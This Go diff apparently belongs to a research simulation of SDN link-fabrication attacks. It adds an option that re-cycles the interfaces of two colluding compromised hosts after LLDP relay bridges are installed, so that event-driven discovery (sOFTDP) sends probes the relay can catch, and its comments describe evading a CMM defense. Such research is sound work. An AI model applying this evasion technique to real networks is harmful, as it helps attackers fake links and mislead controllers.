@@ -56,6 +56,14 @@ type FabricationConfig struct {
 	// Port-Down/Up events outside every LLDP propagation window, which is
 	// what lets the out-of-band variant evade the CMM (Section VI-C).
 	SettleDelay time.Duration
+	// ReflapAfterBridge cycles both interfaces once more after the relay
+	// bridges are installed. Against a periodic sweep this is redundant
+	// (the next discovery round arrives regardless), but against an
+	// event-driven protocol like sOFTDP it is the only way to draw a
+	// probe at all: a quiet host port is never probed, and the probe
+	// triggered by the initial amnesia reset fires during SettleDelay,
+	// before the relay is listening.
+	ReflapAfterBridge bool
 }
 
 // OOBFabrication relays LLDP between two compromised hosts over an
@@ -123,6 +131,13 @@ func (f *OOBFabrication) installBridges() {
 	f.b.OnFrame = f.bridgeHook(link.EndB, &f.lldpBtoA)
 	f.ch.OnReceive(link.EndB, func(raw []byte) { f.b.SendRaw(raw) })
 	f.ch.OnReceive(link.EndA, func(raw []byte) { f.a.SendRaw(raw) })
+	if f.cfg.ReflapAfterBridge {
+		// Bait the event-driven prober: with the bridges live, another
+		// Port-Down/Up on each colluding port triggers one probe per
+		// side, which the relay now catches.
+		f.a.CycleInterface(f.cfg.HoldDown, nil)
+		f.b.CycleInterface(f.cfg.HoldDown, nil)
+	}
 }
 
 func (f *OOBFabrication) bridgeHook(from link.End, lldpCounter *int) func(*packet.Ethernet, []byte) bool {
